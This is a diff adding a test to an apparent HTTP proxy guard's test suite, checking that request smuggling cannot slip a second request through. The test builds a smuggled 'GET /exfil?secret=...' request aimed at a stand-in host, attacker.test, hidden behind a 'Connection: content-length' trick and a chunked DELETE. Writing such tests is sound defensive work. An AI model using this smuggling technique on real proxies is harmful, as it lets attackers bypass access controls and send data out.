@@ -87,6 +87,27 @@ describe('block mode: what is not allowed never reaches a server', () => {
     }
   });
 
+  test('no request smuggling: a body is never read upstream as a second request for another host', async () => {
+    // The upstream parses what it receives with node's HTTP parser: every request it sees is recorded.
+    const upstream = await startHttpServer((_req, res) => res.end());
+    try {
+      const port = upstream.port;
+      const smuggled = `GET /exfil?secret=s3cr3t HTTP/1.1\r\nHost: attacker.test\r\n\r\n`;
+      // Connection names Content-Length: stripping it would leave the body unframed, read as a request.
+      const a = await rawExchange(guard.port, `GET http://allowed.test:${port}/a HTTP/1.1\r\nHost: allowed.test:${port}\r\nConnection: content-length\r\nContent-Length: ${smuggled.length}\r\n\r\n${smuggled}`, { untilText: '\r\n\r\n' });
+      assert.match(a, /^HTTP\/1\.1 200/);
+      // A chunked DELETE: http-proxy would send it as content-length 0 and stream the body after it.
+      const chunk = `${smuggled.length.toString(16)}\r\n${smuggled}\r\n0\r\n\r\n`;
+      const del = await rawExchange(guard.port, `DELETE http://allowed.test:${port}/b HTTP/1.1\r\nHost: allowed.test:${port}\r\nTransfer-Encoding: chunked\r\n\r\n${chunk}`, { untilText: '\r\n\r\n' });
+      assert.match(del, /^HTTP\/1\.1 400/);
+      await new Promise((r) => setTimeout(r, 300));
+      assert.deepEqual(upstream.requests.map((q) => [q.method, q.url, q.host]), [['GET', '/a', `allowed.test:${port}`]]);
+      assert.equal(upstream.requests[0]!.body.toString(), smuggled, 'the body arrived as the body of /a');
+    } finally {
+      await upstream.close();
+    }
+  });
+
   test('malformed requests get 400 and the proxy keeps serving', async () => {
     const cases = [
       'GARBAGE\r\n\r\n',
